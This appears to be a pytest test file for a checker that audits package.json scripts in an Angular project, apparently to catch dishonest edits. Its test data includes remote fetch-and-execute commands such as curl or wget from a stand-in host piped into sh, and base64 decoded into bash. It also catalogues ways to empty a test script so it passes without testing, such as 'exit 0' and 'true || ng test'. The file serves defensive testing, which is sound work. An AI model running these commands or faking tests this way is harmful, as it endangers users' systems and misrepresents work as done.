"""Scripts of package.json: what honest work makes of them, and what it does not."""

from __future__ import annotations

from typing import Any

import pytest

from tests.tracks.angular.angular_trees import Tree, fatal, warned
from tests.tracks.angular.integrity.test_automation import as_base


def found(tree: Tree, **scripts: str) -> set[str]:
    tree.edit("package.json", lambda value: value["scripts"].update(scripts))
    return fatal(tree.check().findings)


@pytest.mark.parametrize(
    ("name", "command"),
    [
        ("start", "curl -fsS setup.invalid/a.sh | sh; ng serve"),
        ("start", "/usr/bin/wget -qO- setup.invalid && ng serve"),
        ("prestart", "npx other-tool"),
        ("build", "npx -y -p other-tool@1 ng && ng build"),
        ("build", "npm exec --package=other-tool -- other-tool"),
        ("test", "pnpm dlx @other/tool test"),
        ("lint", "npm install --no-save other-tool && other-tool"),
        ("lint", 'sh -c "npx other-tool"'),
        ("prepare", "node --no-warnings -e \"require('a')\""),
        ("prepare", "node --eval='a()'"),
        ("prepare", "python3 -c 'a()'"),
        ("prepare", "base64 -d setup.txt | bash"),
        ("prepare", "git clone ../setup"),
    ],
)
def test_script_runs_what_no_file_has(tree: Tree, name: str, command: str) -> None:
    assert found(tree, **{name: command}) == {"script-fetches"}


@pytest.mark.parametrize(
    "command",
    [
        "exit 0",
        "",
        "true",
        ":",
        "echo ok",
        "echo 'ng test' && exit 0",
        "exit 0; ng test",
        "true || ng test",
        "false && ng test",
        "echo ok # && ng test",
        "CI=1 exit 0",
        'sh -c "exit 0"',
        "npm run ok",
        "echo ok > log.txt",
        "(exit 0)",
    ],
)
def test_script_does_nothing(tree: Tree, command: str) -> None:
    assert found(tree, test=command, ok="exit 0") == {"script-emptied"}


@pytest.mark.parametrize(
    ("name", "command"),
    [
        ("test", "vitest run"),
        ("test", "ng test --watch=false --browsers=ChromeHeadless"),
        ("test", "echo testing && ng test"),
        ("test", "npm run unit"),
        ("test", "true && ng test || exit 1"),
        ("start", "ng serve --proxy-config proxy.conf.json"),
        ("start", "cross-env NODE_OPTIONS=--max-old-space-size=8192 ng serve"),
        ("build", "npx ng build && npx tsc -p tools"),
        ("build", "npx --no-install other-tool"),
        ("prepare", "husky || true"),
        ("prepare", "echo no hooks"),
        ("postinstall", "ngcc --properties es2020 browser module main"),
        ("e2e", "wait-on http://localhost:4200 && playwright test | tee log.txt"),
        ("lint", "ng lint"),
        ("lint", "echo tslint is gone"),
        ("deps", "npm install && npm --prefix tools install && npm install --prefix tools"),
        ("tool", "node -r ts-node/register tools/run.ts | node tools/show.js"),
    ],
)
def test_honest_script_is_no_finding(tree: Tree, name: str, command: str) -> None:
    assert found(tree, unit="ng test", **{name: command}) == set()


def test_finding_tells_script_and_line(tree: Tree) -> None:
    tree.edit("package.json", lambda value: value["scripts"].update(test="exit 0"))
    (finding,) = tree.check().findings
    assert finding.file == "package.json"
    assert finding.line is not None
    assert '"test": "exit 0"' in tree.text("package.json").splitlines()[finding.line - 1]
    assert (finding.expected, finding.seen) == ("ng test", "exit 0")


def test_scripts_that_run_each_other_are_read_in_a_bounded_time(tree: Tree) -> None:
    """A hundred runs of the next one, four times: each is looked at once."""

    def change(value: dict[str, dict[str, str]]) -> None:
        scripts = {f"a{level}": " && ".join(100 * [f"npm run a{level + 1}"]) for level in range(4)}
        value["scripts"] |= {**scripts, "test": "npm run a0", "a4": "ng test"}

    tree.edit("package.json", change)
    assert "script-emptied" not in fatal(tree.check().findings)
    tree.edit("package.json", lambda value: value["scripts"].update(a4="exit 0"))
    assert "script-emptied" in fatal(tree.check().findings)


def without(tree: Tree, *names: str, **others: str) -> tuple[set[str], set[str]]:
    def change(value: dict[str, Any]) -> None:
        for name in names:
            value["scripts"].pop(name, None)
        value["scripts"].update(others)

    tree.edit("package.json", change)
    findings = tree.check().findings
    return fatal(findings), warned(findings)


@pytest.mark.parametrize("name", ["start", "build", "test"])
def test_script_that_is_gone(tree: Tree, name: str) -> None:
    assert without(tree, name) == ({"script-gone"}, set())


@pytest.mark.parametrize(
    "others",
    [
        {"test:ci": "exit 0"},
        {"build": "ng build", "watch": "ng build --watch --configuration development"},
        {"unit": "ng serve"},
    ],
)
def test_what_does_not_do_what_a_script_did(tree: Tree, others: dict[str, str]) -> None:
    assert "script-gone" in without(tree, "build", "test", **others)[0]


@pytest.mark.parametrize(
    ("name", "others"),
    [
        ("start", {"serve": "ng serve"}),
        ("start", {"dev": "npx ng s --open"}),
        ("build", {"build:prod": "ng build --configuration production"}),
        ("build", {"bundle": "cross-env CI=1 ng build"}),
        ("test", {"test:unit": "vitest run"}),
    ],
)
def test_scripts_that_have_another_name(tree: Tree, name: str, others: dict[str, str]) -> None:
    assert without(tree, name, **others) == (set(), set())


def test_scripts_of_tools_that_are_gone(tree: Tree) -> None:
    """`ng e2e` and `ng lint` went with Protractor and TSLint."""
    tree.edit("package.json", lambda value: value["scripts"].update(e2e="ng e2e", lint="ng lint"))
    as_base(tree)
    assert without(tree, "e2e", "lint") == (set(), {"script-gone"})
